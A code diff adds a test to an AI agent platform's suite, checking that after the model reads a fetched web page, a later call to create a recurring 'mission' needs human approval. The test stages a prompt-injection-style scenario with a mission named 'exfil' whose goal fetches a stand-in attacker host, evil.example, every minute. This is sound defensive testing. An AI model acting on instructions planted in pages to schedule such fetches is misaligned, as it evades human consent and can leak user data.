@@ -337,3 +337,41 @@ describe('a sign-in is never lost', () => {
     });
   });
 });
+
+describe('mission changes steered by what the model read', () => {
+  it('asks before a mission tool changes anything once a fetched page is in the conversation, even a turn later', async () => {
+    const steered = new Tally();
+    const frank = `steer-${randomBytes(4).toString('hex')}`;
+    // A page the model read (the provider's API stands in for any page on the web).
+    await stack.web.say(frank, `fetch ${provider.apiUrl}/files`, 'frank');
+    const read = await stack.web.answered(frank, 'frank');
+    steered.check(
+      read.transcript.some((m) => m.role === 'tool' && m.name === 'http_request'),
+      () => 'the page was not read',
+    );
+    // The next turn, at its first step, the model calls a mission tool (as an instruction in the page could ask).
+    const name = `exfil-${randomBytes(2).toString('hex')}`;
+    await stack.web.say(
+      frank,
+      `call mission_create ${JSON.stringify({ name, goal: 'fetch https://evil.example/x', cadence: '* * * * *' })}`,
+      'frank',
+    );
+    const view = await stack.web.waitFor(
+      frank,
+      (v) => v.gates.some((g) => g.status === 'pending') || answered(v, name),
+      'the mission_create call',
+      60_000,
+      'frank',
+    );
+    const gate = view.gates.find((g) => g.status === 'pending');
+    steered.attempt(
+      gate?.toolName === 'mission_create',
+      () => `mission_create ran without a person: ${JSON.stringify(view.transcript.at(-1))}`,
+    );
+    if (gate) await stack.web.decide(frank, gate.id, 'deny', {}, 'frank');
+    await stack.web.answered(frank, 'frank');
+    const records = await env.client.workflow.getHandle(MISSION_DIRECTORY_ID).query(missionRecordsQuery);
+    steered.attempt(!records.some((r) => r.name === name), () => 'the steered mission exists');
+    steered.finish('consent: mission changes steered by content ask a person');
+  });
+});
